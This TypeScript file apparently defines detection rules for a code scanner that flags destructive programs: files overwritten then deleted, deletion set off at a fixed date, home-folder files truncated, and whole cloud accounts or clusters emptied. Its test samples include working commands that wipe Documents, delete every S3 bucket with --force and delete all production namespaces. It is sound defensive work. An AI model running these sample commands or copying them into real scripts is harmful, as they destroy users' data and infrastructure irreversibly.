/** SY-02: programs that overwrite files before they delete them, that wait for a date, or that empty a cloud account. */
import { fenced, inFile, weighed } from '../../engine/example.ts';
import { exactPattern, pattern, raw } from '../../engine/pattern.ts';
import { row, type Row } from '../../engine/rule.ts';
import { testFile } from '../../vocabulary/file-places.ts';

const deletes =
  /\bos\.(?:remove|unlink)\(|\.unlink\(|\bunlinkSync\(|\brmSync\(|\brmtree\(|\brimraf\b|\brm\s{1,3}-\w{0,4}[rf]|\bRemove-Item\b|\bDROP\s{1,3}(?:TABLE|DATABASE)\b/;
const told =
  /\bshred|\bsecure(?:ly)?[ _-]?(?:delet|eras|wip)|\berase\b|\bsanitiz|安全(?:删除|擦除|清理)|覆写/i;

export const lostData: readonly Row[] = [
  row('files of a folder are overwritten and deleted', {
    in: ['script', 'fence', 'decoded'],
    within: 'block',
    match: exactPattern(
      raw(
        String.raw`(?:\bos\.walk\(|\brglob\(|\bi?glob\(|\biterdir\(|\bscandir\(|\breaddirSync\()[\s\S]{0,400}?`,
      ),
      raw(
        String.raw`(?:\.write|writeSync|writeFileSync|write_bytes)\([^\n]{0,60}(?:os\.urandom|token_bytes|randbytes|randomBytes|`,
      ),
      raw(String.raw`randomFillSync|Buffer\.alloc\(|bytes\(\s?\w|b["']\\(?:x00|0))`),
    ),
    and: [deletes],
    severity: 'high',
    weigh: ({ region: { text, file }, severity }) =>
      testFile.test(file) ? null : told.test(text) ? 'medium' : severity,
    catches: [
      inFile(
        'scripts/a.py',
        'for base, _, names in os.walk(root):',
        '    for name in names:',
        '        open(os.path.join(base, name), "r+b").write(os.urandom(4096))',
        '        os.remove(os.path.join(base, name))',
      ),
      weighed(
        'medium',
        inFile(
          'scripts/b.py',
          '# secure delete of the folder that the user named',
          'for path in folder.rglob("*"):',
          '    path.write_bytes(os.urandom(path.stat().st_size))',
          '    path.unlink()',
        ),
      ),
    ],
    spares: [
      inFile('scripts/c.py', 'for path in folder.rglob("*.tmp"):', '    path.unlink()'),
      inFile('scripts/d.py', 'open("seed.bin", "wb").write(os.urandom(32))'),
    ],
  }),
  row('deletion that begins at a fixed date', {
    in: ['script', 'decoded'],
    within: 'block',
    match: exactPattern(
      raw(
        String.raw`(?:date\.today\(\)|datetime\.(?:now|utcnow)\([^()\n]{0,20}\)|\bDate\.now\(\)|new Date\(\)|\btime\.time\(\)|\$\(date \+%s\)|\bTime\.now\b)`,
      ),
      raw(
        String.raw`[^\n]{0,24}(?:[<>]=?|-g[te]|-l[te])\s?[^\n]{0,24}(?:date(?:time)?\(\s?20\d\d|["']20\d\d-\d\d|\b1[789]\d{8}(?:\d{3})?\b)`,
      ),
    ),
    and: [deletes],
    severity: 'high',
    weigh: ({ region: { file }, severity }) => (testFile.test(file) ? null : severity),
    catches: [
      inFile(
        'scripts/a.py',
        'if datetime.date.today() >= datetime.date(2027, 3, 1):',
        '    shutil.rmtree(Path.home() / "Documents")',
      ),
    ],
    spares: [
      inFile('scripts/b.py', 'if time.time() - path.stat().st_mtime > 86400:', '    os.remove(path)'),
      inFile(
        'scripts/c.py',
        'if datetime.date.today() >= datetime.date(2027, 3, 1):',
        '    print("season is over")',
      ),
    ],
  }),
  row('files below the home folder are emptied one after the other', {
    in: ['script', 'fence', 'decoded'],
    within: 'block',
    match: exactPattern(
      raw(
        String.raw`\b(?:os\.walk|rglob|glob|walk|readdirSync)\([^\n]{0,80}?(?:home\b|HOME\b|expanduser|~\/?["'])[\s\S]{0,400}?`,
      ),
      raw(String.raw`(?:\.truncate\(\s?0\s?\)|\btruncateSync\(|\.write\(\s?os\.urandom\(|\bshred\s)`),
    ),
    severity: 'critical',
    catches: [
      inFile(
        'a.py',
        'for top, dirs, files in os.walk(Path.home()):',
        '    for name in files:',
        '        with open(os.path.join(top, name), "r+b") as handle:',
        '            handle.truncate(0)',
      ),
    ],
    spares: [inFile('a.py', 'for top, dirs, files in os.walk(Path.home()):', '    total += len(files)')],
  }),
  row('databases of an account are deleted with their backups', {
    in: ['script', 'config', 'fence', 'list', 'prose', 'decoded', 'hidden', 'comment'],
    within: 'block',
    match: exactPattern(
      raw(
        String.raw`\bdelete-db-(?:instance|cluster)\b[^\n]{0,240}--skip-final-snapshot|\bsql\s{1,3}instances\s{1,3}delete\b[^\n]{0,120}(?:-q|--quiet)\b`,
      ),
    ),
    and: [
      /--delete-automated-backups|--no-deletion-protection|backups\s{1,3}delete/,
      pattern(raw(String.raw`\b(?:for|xargs|while)\b`)),
    ],
    severity: 'high',
    catches: [
      fenced(
        'sh',
        'for d in $(aws rds describe-db-instances --query "DBInstances[].Id" --output text); do',
        '  aws rds delete-db-instance --db-instance-identifier $d --skip-final-snapshot --delete-automated-backups',
        'done',
      ),
    ],
    spares: [
      fenced('sh', 'aws rds delete-db-instance --db-instance-identifier preview-7 --skip-final-snapshot'),
    ],
  }),
  row('everything of a cluster or an account is deleted', {
    in: ['script', 'config', 'fence', 'list', 'prose', 'decoded', 'hidden', 'comment'],
    within: 'line',
    match: exactPattern(
      // The claims of one named namespace are no whole cluster.
      raw(
        String.raw`\bkubectl\b[^\n]{0,60}\bdelete\s{1,3}(?:ns|namespaces?|pv|pvc)\s{1,3}--all\b(?![^\n]{0,60}\s(?:-n|--namespace)[= ](?!["']?(?:default|kube-|prod)))|`,
      ),
      raw(String.raw`\bfor\b[^\n]{0,30}\baws s3 ls\b[^\n]{0,160}\bs3 rb\b[^\n]{0,60}--force|`),
      raw(String.raw`\baws s3 ls\b[^\n]{0,120}\|\s?xargs\b[^\n]{0,60}\bs3 rb\b[^\n]{0,60}--force|`),
      raw(String.raw`\baz group list\b[^\n]{0,160}\baz group delete\b[^\n]{0,60}--yes`),
    ),
    severity: 'high',
    weigh: ({ region, severity }) =>
      /\b(?:never|danger|forbidden|blocked|deny|avoid|do not|don't)\b/i.test(
        `${region.heading} ${region.lead}`,
      )
        ? 'low'
        : severity,
    catches: [
      fenced('sh', 'kubectl --context=prod delete ns --all --wait=false'),
      fenced('sh', 'for b in $(aws s3 ls | cut -d" " -f3); do aws s3 rb s3://$b --force; done'),
    ],
    spares: [
      fenced('sh', 'kubectl delete pvc --all -n preview-7'),
      fenced('sh', 'kubectl delete ns preview-7'),
      fenced('sh', 'aws s3 rb s3://preview-7 --force'),
    ],
  }),
];
